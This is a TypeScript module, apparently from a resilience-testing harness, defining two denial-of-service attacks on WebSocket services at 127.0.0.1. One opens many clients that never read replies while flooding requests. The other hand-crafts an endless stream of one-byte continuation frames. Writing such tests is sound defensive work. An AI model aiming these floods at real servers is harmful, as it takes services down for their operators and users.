import { connect } from 'node:net';
import { WebSocket } from 'ws';
import { type Attack, type AttackContext, rest, type Service, startOver } from '../attack.ts';

const CLIENTS = 100;
const REQUESTS_AT_ONCE = 50;

function open({ ports, from }: AttackContext, service: Service, path: string): Promise<WebSocket> {
  const socket = new WebSocket(`ws://127.0.0.1:${ports[service]}${path}`, {
    localAddress: from,
    perMessageDeflate: false,
  });
  return new Promise((resolve, reject) => {
    socket.once('open', () => resolve(socket));
    socket.once('error', reject);
    socket.on('error', () => undefined);
  });
}

/** Clients that subscribe and ask for more, and never read the answers. */
export const unread =
  (service: Service, path: string, messages: readonly string[]): Attack =>
  async (context) => {
    await Promise.all(
      Array.from({ length: CLIENTS }, async () => {
        while (!context.over.aborted) {
          const socket = await open(context, service, path).catch(() => undefined);
          socket?.pause();
          while (socket?.readyState === WebSocket.OPEN && !context.over.aborted) {
            for (let sent = 0; sent < REQUESTS_AT_ONCE && socket.bufferedAmount < 1_000_000; sent += 1) {
              socket.send(messages[sent % messages.length] ?? '');
              context.count();
            }
            await rest(20);
          }
          socket?.terminate();
          await rest(10);
        }
      }),
    );
  };

/** One message in frames of a byte, which never ends. Written by hand: no client library sends such a thing. */
export const tinyFrames =
  (service: Service, path: string): Attack =>
  async (context) => {
    const { ports, from, over, count } = context;
    const handshake = `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n`;
    // A text frame that is not the last, then continuations, each with one byte under a mask of zeros.
    const first = Buffer.from([0x01, 0x81, 0, 0, 0, 0, 0x20]);
    const more = Buffer.concat(Array.from({ length: 1_000 }, () => Buffer.from([0x00, 0x81, 0, 0, 0, 0, 0x20])));
    await Promise.all(
      Array.from({ length: 8 }, async () => {
        while (!over.aborted) {
          const socket = connect({ port: ports[service], host: '127.0.0.1', localAddress: from });
          socket.on('error', () => undefined);
          socket.on('data', () => undefined);
          socket.write(handshake);
          await rest(50);
          socket.write(first);
          while (!socket.destroyed && !over.aborted) {
            count(1_000);
            if (socket.write(more)) await rest(1);
            else
              await Promise.race([
                new Promise((resolve) => socket.once('drain', resolve)),
                startOver(context),
                rest(1_000),
              ]);
          }
          socket.destroy();
          await rest(10);
        }
      }),
    );
  };
